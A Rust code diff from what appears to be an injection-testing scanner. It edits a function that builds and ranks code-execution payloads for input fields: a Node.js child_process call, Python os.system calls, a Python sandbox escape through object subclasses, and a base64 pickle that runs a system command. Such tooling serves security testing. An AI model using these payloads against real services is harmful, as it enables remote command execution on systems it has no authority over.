@@ -31,18 +31,13 @@ const EVALUATED: [&str; 14] = [
 const DOCUMENT: [&str; 8] =
     ["config", "configuration", "definition", "document", "manifest", "pickle", "spec", "yaml"];
 
-/// Whether a place is evaluated, by its name.
-pub(super) fn is_evaluated(place: &Place) -> bool {
-    words(&place.name).iter().any(|word| EVALUATED.contains(&word.as_str()))
-}
-
 /// What runs a program in the languages that servers are written in, within and without quotes.
 pub fn codes(place: &Place, ground: &Ground) -> Vec<Payload> {
     let named = words(&place.name);
     let is = |list: &[&str]| named.iter().any(|word| list.contains(&word.as_str()));
     let rank = match place.purpose {
         Purpose::Program | Purpose::Number => return Vec::new(),
-        _ if is_evaluated(place) => 0,
+        _ if is(&EVALUATED) => 0,
         _ if is(&DOCUMENT) => 1,
         Purpose::Unknown | Purpose::Pattern | Purpose::Statement => 2,
         _ => 3,
@@ -51,9 +46,8 @@ pub fn codes(place: &Place, ground: &Ground) -> Vec<Payload> {
     let script = format!("process.getBuiltinModule('child_process').execFileSync('{program}')");
     let quoted = script.replace('\'', "\\\"");
     let python = format!("__import__('os').system('{program}')");
-    // A class of the module that runs programs, found among all classes: it needs no name.
     let chained = format!(
-        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('{program}')"
+        "().__class__.__base__.__subclasses__()[-1].__init__.__globals__['__builtins__']['__import__']('os').system('{program}')"
     );
     let pickle = BASE64.encode(format!("cos\nsystem\n(S'{program}'\ntR."));
     let written = [
